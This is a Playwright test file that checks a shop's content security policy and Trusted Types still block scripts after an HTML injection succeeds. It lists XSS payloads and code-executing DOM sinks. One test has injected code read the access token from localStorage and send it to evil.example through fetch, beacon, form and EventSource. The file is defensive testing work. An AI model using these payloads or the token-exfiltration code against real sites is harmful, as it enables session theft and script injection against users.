/** The second line of defence: what the content security policy and Trusted Types stop after an injection succeeds. */
import { expect, type Page } from '@playwright/test';
import { expects, observe } from '../../harness/scenario';
import { createAccount } from '../../harness/api-accounts';
import { hasRun } from '../support/markup';
import { logIn } from '../../harness/sign-in';
import { test } from '../target';

/** Markup that a page could reflect; each line runs code or sends a request in its own way. */
const injections: Record<string, string> = {
  'an inline script': '<script>ran=1</script>',
  'an inline script with a guessed nonce': '<script nonce="a">ran=1</script>',
  'an event handler': '<img src=x onerror="ran=1">',
  'a script of another origin': '<script src="https://evil.example/x.js"></script>',
  'a script at the address of an uploaded photo': '<script src="/uploads/x.jpg"></script>',
  'a script from a data URL': '<script src="data:text/javascript,ran=1"></script>',
  'a frame with inline content': '<iframe srcdoc="<script>parent.ran=1</script>"></iframe>',
  'a frame of another origin': '<iframe src="https://evil.example/"></iframe>',
  'a frame with a script URL': '<iframe src="javascript:parent.ran=1"></iframe>',
  'an object': '<object data="data:text/html,<script>parent.ran=1</script>"></object>',
  'an SVG animation': '<svg><animate onbegin="ran=1" attributeName="x" dur="1s"></animate></svg>',
  'a base URL': '<base href="https://evil.example/">',
  'a style sheet of another origin': '<link rel="stylesheet" href="https://evil.example/x.css">',
  'an inline style sheet': '<style>@import "https://evil.example/x.css"; body { display: none }</style>',
  'a meta refresh': '<meta http-equiv="refresh" content="0;url=javascript:ran=1">',
};

/** Aborts and records requests to evil.example. */
async function recordRequestsToAttacker(page: Page): Promise<string[]> {
  const requested: string[] = [];
  await page.route('https://evil.example/**', (route) => {
    requested.push(route.request().url());
    return route.abort();
  });
  return requested;
}

/** Opens the page as a server without escaping would send it: with this markup in its body. */
async function openWithInjection(page: Page, address: string, html: string): Promise<void> {
  await page.route(address, async (route) => {
    const response = await route.fetch();
    const body = (await response.text()).replace('</noscript>', `</noscript>${html}`);
    await route.fulfill({ response, body });
  });
  await page.goto(address, { waitUntil: 'load' });
  await page.getByRole('heading', { name: 'Log in to OCS' }).waitFor();
}

for (const [name, html] of Object.entries(injections)) {
  test(
    `page with ${name} injected`,
    expects('the policy stops it; the page works'),
    async ({ target: { shop }, newVisitor }) => {
      const page = await newVisitor();
      const requested = await recordRequestsToAttacker(page);
      await openWithInjection(page, `${shop}/login`, html);
      expect(await page.evaluate(() => 'ran' in window), 'the script ran').toBe(false);
      expect(requested, 'requests to evil.example').toEqual([]);
      expect(await page.getByRole('button', { name: 'Log in', exact: true }).isVisible(), 'the page shows').toBe(true);
      observe('stopped');
    },
  );
}

/** Expressions that turn the text `html` into code or markup. */
const sinks = {
  innerHTML: "document.createElement('div').innerHTML = html",
  outerHTML: "document.body.appendChild(document.createElement('p')).outerHTML = html",
  insertAdjacentHTML: "document.body.insertAdjacentHTML('beforeend', html)",
  'document.write': 'document.write(html)',
  srcdoc: "document.createElement('iframe').srcdoc = html",
  DOMParser: "new DOMParser().parseFromString(html, 'text/html')",
  'src of a script': "document.createElement('script').src = 'https://evil.example/x.js'",
  'text of a script': "document.createElement('script').text = 'ran=1'",
  eval: "(0, eval)('ran=1')",
  'new Function': "new Function('ran=1')()",
  'setTimeout with text': "setTimeout('ran=1')",
  'another Trusted Types policy': "trustedTypes.createPolicy('mine', { createHTML: (text) => text }).createHTML(html)",
  'a worker': "new Worker('data:text/javascript,1')",
  import: "import('https://evil.example/x.js')",
};

test(
  `text turned into code or markup in ${String(Object.keys(sinks).length)} ways`,
  expects('each throws; nothing runs or is requested'),
  async ({ target: { shop }, newVisitor }) => {
    const buyer = await createAccount(shop, 'buyer');
    const page = await newVisitor();
    const requested = await recordRequestsToAttacker(page);
    await logIn(page, buyer.email);
    for (const [name, expression] of Object.entries(sinks)) {
      // Code that evaluate runs at once bypasses the policy; after a timer the page's policy applies.
      const nextTask = 'await new Promise((resolve) => setTimeout(resolve))';
      const attempt = `(async () => { ${nextTask}; const html = '<img src=x onerror=ran=1>'; await (${expression}) })().then(() => 'passed', () => 'thrown')`;
      expect(await page.evaluate(attempt), name).toBe('thrown');
    }
    expect(await hasRun(page), 'a script ran').toBe(false);
    expect(requested, 'requests to evil.example').toEqual([]);
    observe('each threw');
  },
);

test(
  'access token sent to another origin by an injected script: fetch, beacon, form, event source',
  expects('the policy allows requests to the shop only'),
  async ({ target: { shop }, newVisitor }) => {
    const buyer = await createAccount(shop, 'buyer');
    const page = await newVisitor();
    const requested = await recordRequestsToAttacker(page);
    await logIn(page, buyer.email);
    const outcome = await page.evaluate(() => {
      const address = `https://evil.example/?${String(localStorage.getItem('access-token'))}`;
      const form = document.body.appendChild(document.createElement('form'));
      form.action = address;
      navigator.sendBeacon(address);
      new EventSource(address).close();
      form.submit();
      return fetch(address).then(
        () => 'sent',
        () => 'refused',
      );
    });
    expect(outcome, 'fetch').toBe('refused');
    expect(requested, 'requests to evil.example').toEqual([]);
    observe('refused');
  },
);
